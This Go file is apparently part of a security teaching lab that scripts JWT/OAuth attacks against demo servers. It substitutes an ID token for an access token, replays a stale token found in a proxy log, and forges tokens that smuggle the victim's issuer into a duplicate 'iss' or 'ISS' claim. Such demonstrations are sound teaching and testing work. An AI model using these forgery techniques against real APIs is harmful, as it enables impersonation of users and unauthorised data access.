package forgeajwt

import (
	"encoding/json"
	"fmt"
	"net/url"
	"strings"
	"time"

	"quartet.example/authserver/controlapi"
	"quartet.example/demo/labs/lab"
	"quartet.example/shared/jose/forge"
)

// withIDToken gets an ID token of the victim, who allows nothing but signing in.
func withIDToken(s *lab.Scene) error {
	s.Step("Alice", "signs in at a game of Mallory, and allows it nothing but to know who she is")
	tokens, err := s.SignInTo(s.Mallory, s.Victim, url.Values{"scope": {"openid"}})
	if err != nil {
		return err
	}
	s.Step("Mallory", "reads the ID token that her game received, and sends it to the API as an access token")
	_, err = s.ReadNotes(tokens.IDToken)
	return err
}

// withOldToken uses an access token that was valid an hour ago.
func withOldToken(s *lab.Scene) error {
	s.Step("Alice", "uses the notes app, and a proxy writes her access token into its log")
	raw, err := s.Issue(controlapi.Token{User: "alice", Scope: "notes:read"})
	if err != nil {
		return err
	}
	s.Pass(time.Hour)
	s.Step("Mallory", "finds the log an hour later")
	return read(s, raw)
}

// withTwoIssuers signs as an issuer of her own, and names the victim's issuer in a second member.
func withTwoIssuers(s *lab.Scene) error { return withMember(s, "iss") }

// withUpperCase does the same with a member that only a careless parser takes for iss.
func withUpperCase(s *lab.Scene) error { return withMember(s, "ISS") }

// withMember signs a token in which iss names the attacker's issuer, and a later member the victim's.
func withMember(s *lab.Scene, name string) error {
	token, err := template(s)
	if err != nil {
		return err
	}
	s.Step("Mallory", "starts an authorization server of her own: the API accepts the tokens of each for its own users")
	key, err := ownKey(s)
	if err != nil {
		return err
	}
	if err := publish(s, key.Public()); err != nil {
		return err
	}
	token.Header["kid"], token.Claims["iss"] = key.ID, s.Evil.URL
	header, err := json.Marshal(token.Header)
	if err != nil {
		return err
	}
	payload, err := json.Marshal(token.Claims)
	if err != nil {
		return err
	}
	s.Step("Mallory", "names her own authorization server in iss, and that of Alice in a second member "+name)
	raw, err := forge.Sign(key.Algorithm, key.Signer, forge.Encode(string(header)), forge.Encode(appended(string(payload), name, s.Issuer)))
	if err != nil {
		return err
	}
	return read(s, raw)
}

// appended returns a JSON object with one more member at its end.
func appended(object, name, value string) string {
	return fmt.Sprintf("%s,%q:%q}", strings.TrimSuffix(object, "}"), name, value)
}
